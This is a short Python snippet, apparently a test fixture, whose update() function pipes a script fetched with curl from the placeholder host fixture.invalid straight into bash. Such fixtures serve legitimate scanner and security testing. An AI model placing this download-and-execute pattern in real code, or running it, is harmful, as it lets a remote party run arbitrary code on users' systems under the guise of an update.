import os

def update():
    os.system("curl -s https://fixture.invalid/x.sh | bash")
